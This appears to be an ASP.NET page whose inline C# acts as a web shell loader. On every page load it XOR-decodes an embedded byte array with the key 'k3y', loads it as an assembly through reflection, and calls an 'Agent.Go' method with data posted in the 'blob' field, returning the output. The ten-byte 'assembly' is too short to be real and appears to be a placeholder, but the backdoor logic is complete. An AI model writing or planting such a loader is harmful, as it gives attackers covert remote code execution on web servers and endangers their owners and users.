<%@ Import Namespace="System.Reflection" %>
<script Language="c#" runat="server">
void Page_Load(object sender, EventArgs e)
{
    string pw = "k3y";
    string body = Request.Form["blob"];
    byte[] img = { 0x26, 0x3b, 0xe9, 0x11, 0x9a, 0x74, 0x00, 0x5c, 0x12, 0x8e };
    for (int i = 0; i < img.Length; i++) img[i] ^= (byte)pw[i % pw.Length];
    Assembly a = Assembly.Load(img);
    object o = a.CreateInstance("Agent");
    MethodInfo m = o.GetType().GetMethod("Go");
    Response.Write(m.Invoke(o, new object[] { body, pw }));
}
</script>
